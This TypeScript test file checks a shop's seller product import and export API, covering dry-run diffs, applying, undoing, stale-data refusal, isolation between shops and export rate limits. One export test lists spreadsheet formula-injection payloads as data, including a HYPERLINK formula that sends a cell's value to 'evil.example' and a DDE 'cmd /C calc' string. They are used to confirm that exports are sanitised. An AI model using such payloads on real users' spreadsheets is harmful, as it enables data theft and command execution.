import { ImportDiff, type ImportedField, ProductImport, type UpdatedProduct } from '@rialto/contract'
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { encodeForm } from '../../../../test/support/form.ts'
import { addShopper } from '../../people/accounts/testing/shopper.ts'
import { addShop } from '../../selling/orders/testing/order-calls.ts'
import { createSellerCalls, type SellerCalls } from '../../selling/orders/testing/seller-calls.ts'
import { saveProducts, selectByHandles } from '../catalog/index.ts'
import { productCsv, productRow } from './testing/product-csv.ts'

let shop: SellerCalls
let tests = 0
/** The beginning of the handles of this test. */
let own = ''
beforeAll(async () => {
  shop = await createSellerCalls()
})
afterAll(() => shop.close())
beforeEach(async () => {
  tests++
  own = `t${tests}`
  const products = [
    { handle: `${own}-cup`, content: { name: 'Cup', price: 2200, options: plain({ sku: `${own}-CUP`, stock: 18 }) } },
    {
      handle: `${own}-pot`,
      content: {
        name: 'Pot',
        price: 3000,
        options: {
          sizes: [
            { name: 'Small', surcharge: 0 },
            { name: 'Large', surcharge: 500 },
          ],
          colors: [],
          variants: [
            { size: 'Small', color: null, sku: `${own}-POT-S`, stock: 4 },
            { size: 'Large', color: null, sku: `${own}-POT-L`, stock: 6 },
          ],
        },
      },
    },
  ]
  await saveProducts(shop.deps, { shop: shop.shopId, products })
})

const plain = (variant: object) => ({ sizes: [], colors: [], variants: [{ size: null, color: null, ...variant }] })
const send = (body: object) => shop.call('POST', '/seller/products/import', { body })
const propose = async (text: string, more = {}): Promise<ImportDiff> => {
  const { status, body } = await send({ text, dry_run: true, ...more })
  expect(status, body.message).toBe(200)
  return ImportDiff.strict().parse(body.data)
}
const apply = (import_id: number) => send({ import_id })
const undo = (id: number) => shop.call('POST', `/seller/imports/${id}/undo`)
const read = async (name: string) => {
  const [product] = await selectByHandles(shop.deps.database.db, shop.shopId, [`${own}-${name}`])
  if (!product) throw new Error(`there is no ${name}`)
  return product
}
/** An undo is a change of the product too. */
const withoutVersion = ({ version: _, ...content }: Awaited<ReturnType<typeof read>>) => content
const fieldsOf = (updated: UpdatedProduct[]) =>
  updated.map(({ handle, fields }) => [
    handle.slice(own.length + 1),
    ...fields.map(({ name, of, before, after }: ImportedField) => [of, name, before, after].filter(Boolean).join(' ')),
  ])

describe('POST /seller/products/import', () => {
  it('shows what a pasted table changes, changes nothing, then applies exactly that and undoes it', async () => {
    const before = [await read('cup'), await read('pot')]
    const table = ['SKU\tPrice\tStock', `${own}-CUP\t$24.00\t60`, `${own}-POT-L\t40\t`, `${own}-POT-S\t35,00\t9`].join(
      '\n',
    )
    const diff = await propose(table)
    expect(fieldsOf(diff.updated)).toEqual([
      ['cup', 'price 22.00 24.00', 'stock 18 60'],
      ['pot', 'price 30.00 35.00', 'Small stock 4 9'],
    ])
    expect(diff).toMatchObject({ rows: 3, added: 0, skipped: [], unchanged: 0, is_applied: false })
    expect([await read('cup'), await read('pot')]).toEqual(before)

    const applied = await apply(diff.import_id)
    expect(applied.body.data).toMatchObject({ is_applied: true, added: 0 })
    expect([await read('cup'), await read('pot')]).toMatchObject([
      { price: 2400, stock: 60 },
      { price: 3500, sizes: [{ surcharge: 0 }, { surcharge: 500 }], stock: 15 },
    ])
    // Again: nothing is applied twice.
    expect((await apply(diff.import_id)).status).toBe(200)

    const { imports } = (await shop.call('GET', '/seller/imports')).body.data
    expect(ProductImport.strict().parse(imports[0])).toMatchObject({ id: diff.import_id, updated: 2, can_undo: true })
    const undone = await undo(diff.import_id)
    expect(undone.body.data).toMatchObject({ undone: 2, kept: [], import: { can_undo: false } })
    expect([await read('cup'), await read('pot')].map(withoutVersion)).toEqual(before.map(withoutVersion))
    expect((await undo(diff.import_id)).status).toBe(409)
  })

  it('reads a table without heading, and corrects refused cells in place', async () => {
    const text = `${own}-cup, 18.oo, 7\n${own}-POT-S, 33\nnobody, 5`
    const diff = await propose(text)
    expect(diff.skipped).toEqual([
      {
        line: 1,
        title: `${own}-cup`,
        reason: '“18.oo” is not a price',
        cell: { column: 2, heading: '', value: '18.oo' },
      },
      { line: 3, title: 'nobody', reason: 'The shop has no such product', cell: null },
    ])
    const mended = await propose(text, { corrections: [{ line: 1, column: 2, value: '18.00' }] })
    expect(fieldsOf(mended.updated)).toEqual([
      ['cup', 'price 22.00 18.00', 'stock 18 7'],
      ['pot', 'price 30.00 33.00'],
    ])
    // The first proposal is replaced.
    expect((await apply(diff.import_id)).status).toBe(404)
    expect((await apply(mended.import_id)).status).toBe(200)
    expect(await read('cup')).toMatchObject({ price: 1800, stock: 7 })
  })

  it('adds products with a name as drafts, which an undo archives', async () => {
    const diff = await propose(`handle,name,price,stock\n${own}-bowl,Serving bowl,64,8\n${own}-cup,Cup,22,18`)
    expect(diff).toMatchObject({
      added: 1,
      unchanged: 1,
      added_products: [{ name: 'Serving bowl', price: 64, stock: 8, line: 2 }],
    })
    await apply(diff.import_id)
    expect(await read('bowl')).toMatchObject({ status: 'draft', price: 6400, stock: 8 })
    await undo(diff.import_id)
    expect(await read('bowl')).toMatchObject({ status: 'archived' })
  })

  it('refuses to apply when a product has changed since it was shown, and shows the difference of today', async () => {
    const diff = await propose(`${own}-CUP,24`)
    await saveProducts(shop.deps, { shop: shop.shopId, products: [{ handle: `${own}-cup`, content: { price: 2300 } }] })
    const stale = await apply(diff.import_id)
    expect([stale.status, stale.body.code]).toEqual([409, 'stale'])
    expect(fieldsOf(stale.body.data.current.updated)).toEqual([['cup', 'price 23.00 24.00']])
    expect(await read('cup')).toMatchObject({ price: 2300 })
  })

  it('undoes stock by its difference, and leaves products that were changed or sold out since', async () => {
    const diff = await propose(`sku,price,stock\n${own}-CUP,24,60\n${own}-POT-S,35,20`)
    await apply(diff.import_id)
    const variantOf = async (name: string) => (await read(name)).variants[0]?.id ?? 0
    const sell = (variant_id: number, pieces: number) =>
      shop.call('POST', '/seller/stock/movements', { body: { variant_id, reason: 'correction', delta: -pieces } })
    await sell(await variantOf('cup'), 10)
    await sell(await variantOf('pot'), 17)
    const undone = await undo(diff.import_id)
    expect(undone.body.data).toMatchObject({
      undone: 1,
      kept: [{ handle: `${own}-pot`, reason: 'More pieces have been sold since than would be left' }],
    })
    expect(await read('cup')).toMatchObject({ price: 2200, stock: 8 })
    expect(await read('pot')).toMatchObject({ price: 3500 })
  })

  it('names a product whose price was changed since instead of overwriting it', async () => {
    const diff = await propose(`${own}-CUP,24`)
    await apply(diff.import_id)
    await saveProducts(shop.deps, { shop: shop.shopId, products: [{ handle: `${own}-cup`, content: { price: 2600 } }] })
    const { body } = await undo(diff.import_id)
    expect(body.data).toMatchObject({ undone: 0, kept: [{ name: 'Cup', reason: 'It has been changed since' }] })
    expect(await read('cup')).toMatchObject({ price: 2600 })
  })

  it('takes a product file, and puts texts, statuses and removed variants back', async () => {
    const before = await read('pot')
    const file = productCsv([
      productRow(`${own}-pot`, {
        Title: 'Large pot',
        Published: 'false',
        'Body (HTML)': '<p>New words</p>',
        'Variant SKU': 'ONE',
      }),
      productRow(`${own}-new`, { Title: 'New one', Tags: 'No such category' }),
      productRow(`${own}-bad`, { 'Variant Price': '18,oo' }),
    ])
    const form = await encodeForm({ dry_run: '1' }, [
      ['file', { bytes: Buffer.from(file), name: 'autumn.csv', type: 'text/csv' }],
    ])
    const { body } = await shop.post('/seller/products/import', form.payload, {
      headers: { ...shop.seller.headers, ...form.headers },
    })
    const diff = ImportDiff.strict().parse(body.data)
    expect(fieldsOf(diff.updated)[0]).toContain('status active hidden')
    expect(diff.skipped).toMatchObject([{ line: 4, cell: { heading: 'Variant Price', value: '18,oo' } }])
    await apply(diff.import_id)
    expect(await read('pot')).toMatchObject({
      name: 'Large pot',
      status: 'hidden',
      variants: [{ sku: 'ONE', stock: 5 }],
    })
    expect((await read('new')).categoryIds).toEqual([])
    await undo(diff.import_id)
    const { variants, ...rest } = await read('pot')
    const withoutIds = (list: typeof variants) => list.map(({ id: _id, ...variant }) => variant)
    expect(rest).toEqual({ ...before, variants: undefined, ...rest })
    expect([rest.name, rest.description, rest.status]).toEqual([before.name, before.description, before.status])
    expect(withoutIds(variants)).toEqual(withoutIds(before.variants))
    expect((await shop.call('GET', '/seller/imports')).body.data.imports[0].file_name).toBe('autumn.csv')
  })

  it('refuses what is no table, too many rows and nothing', async () => {
    const many = Array.from({ length: 5_002 }, (_, row) => `SKU-${row},5`).join('\n')
    for (const text of ['Dear colleague', many, '', 'sku,sku,price\n1,2,3', '"open'])
      expect((await send({ text, dry_run: true })).status, text.slice(0, 20)).toBe(422)
    const picture = await encodeForm({ dry_run: '1' }, [
      ['file', { bytes: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1]), name: 'a.csv', type: 'text/csv' }],
    ])
    const headers = { ...shop.seller.headers, ...picture.headers }
    expect((await shop.post('/seller/products/import', picture.payload, { headers })).status).toBe(415)
  })

  it('sees and changes only products and imports of its own shop', async () => {
    const diff = await propose(`${own}-CUP,24`)
    const stranger = await addShopper(shop)
    await addShop(shop, { owner_id: stranger.id })
    const as = (method: 'GET' | 'POST', path: string, body?: object) => shop.call(method, path, { by: stranger, body })
    expect((await as('POST', '/seller/products/import', { import_id: diff.import_id })).status).toBe(404)
    expect((await as('GET', `/seller/imports/${diff.import_id}`)).status).toBe(404)
    const theirs = await as('POST', '/seller/products/import', { text: `${own}-CUP,24`, dry_run: true })
    expect(theirs.body.data).toMatchObject({ updated: [], skipped: [{ reason: 'The shop has no such product' }] })
    await apply(diff.import_id)
    expect((await as('POST', `/seller/imports/${diff.import_id}/undo`)).status).toBe(404)
  })
})

describe('GET /seller/products/export', () => {
  it('writes a file that an import leaves unchanged, whatever the status', async () => {
    const { db } = shop.deps.database
    for (const status of ['hidden', 'draft'] as const)
      await db
        .updateTable('products')
        .set({ status })
        .where('id', '=', (await read(status === 'draft' ? 'cup' : 'pot')).id)
        .execute()
    const exported = await shop.call('GET', '/seller/products/export')
    expect(exported.headers['content-type']).toContain('text/csv')
    const diff = await propose(exported.body.toString())
    expect(fieldsOf(diff.updated)).toEqual([])
    expect(diff).toMatchObject({ added: 0, skipped: [] })
    expect(diff.unchanged).toBeGreaterThan(1)
  })
})

describe('the file of an export', () => {
  const exported = async (query = ''): Promise<string> => {
    const { status, body } = await shop.call('GET', `/seller/products/export${query}`)
    expect(status).toBe(200)
    return Buffer.from(body).toString()
  }
  const formulas = ['=HYPERLINK("https://evil.example?"&A1,"Total")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', "'=kept"]

  it('holds no formulas, and comes back in as it went out', async () => {
    for (const [index, name] of formulas.entries()) {
      const content = { name, brand: name, options: plain({ sku: `-${own}${index}`, stock: 2 }) }
      await saveProducts(shop.deps, { shop: shop.shopId, products: [{ handle: `${own}-f${index}`, content }] })
    }
    const csv = await exported()
    expect(csv.match(/(^|,)"?[=@+\-＝][^,]*/gm) ?? []).toEqual([])
    expect(await propose(csv)).toMatchObject({ added: 0, updated: [], skipped: [] })
    // A reworded price proves that the rows were read as the products that they are.
    const priced = csv.replace(/^(t\d+-f2,.*?),0\.00,/m, '$1,5.00,')
    expect((await propose(priced)).updated).toHaveLength(1)
  })

  it('has the products of a view and search alone, by handle and SKU', async () => {
    const csv = await exported(`?view=all&search=${own}-POT-S`)
    const [head = '', ...rows] = csv.trim().split('\n')
    expect(head).toMatch(/^Handle,.*Variant SKU/)
    expect(rows.map((row) => row.split(',')[0])).toEqual([`${own}-pot`, `${own}-pot`])
    expect(await propose(csv)).toMatchObject({ added: 0, updated: [], unchanged: 1 })
  })

  it('is written twice at a time for a shop, and again afterwards', async () => {
    // A quick export may end before the next begins, but eight at once overlap.
    const replies = await Promise.all(Array.from({ length: 8 }, () => shop.call('GET', '/seller/products/export')))
    const written = replies.filter(({ status }) => status === 200)
    expect(written.length).toBeGreaterThanOrEqual(2)
    expect(replies.filter(({ status }) => status === 429)).toHaveLength(8 - written.length)
    expect(written.length).toBeLessThan(8)
    await vi.waitFor(() => exported())
  })
})
